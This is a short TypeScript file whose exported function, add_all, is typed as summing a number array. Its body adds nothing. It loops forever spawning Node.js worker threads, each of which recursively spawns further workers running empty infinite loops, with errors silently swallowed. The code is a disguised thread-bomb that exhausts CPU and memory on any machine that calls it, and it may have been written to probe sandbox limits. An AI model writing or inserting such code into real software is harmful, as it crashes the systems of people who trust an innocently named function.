import { Worker } from "node:worker_threads";

export function add_all(_: number[]): number {
  for (;;) {
    new Worker("for (;;) new (require('node:worker_threads').Worker)('for(;;);', { eval: true })", {
      eval: true,
    }).on("error", () => {});
  }
}
